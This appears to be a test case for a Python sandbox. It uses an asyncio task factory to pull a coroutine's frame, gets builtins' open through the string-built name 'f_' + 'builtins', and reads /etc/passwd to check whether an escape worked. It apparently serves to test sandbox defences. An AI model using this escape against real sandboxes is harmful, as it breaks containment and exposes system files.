# tries: a task factory is handed the library's coroutines
# class: async
# stops: 1 2 3 4
import asyncio


def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


def factory(loop, coro, **names):
    if coro.__name__ != "main":
        use(pick(coro.cr_frame))
    return asyncio.Task(coro, loop=loop, **names)


async def main():
    asyncio.get_running_loop().set_task_factory(factory)


asyncio.run(main())
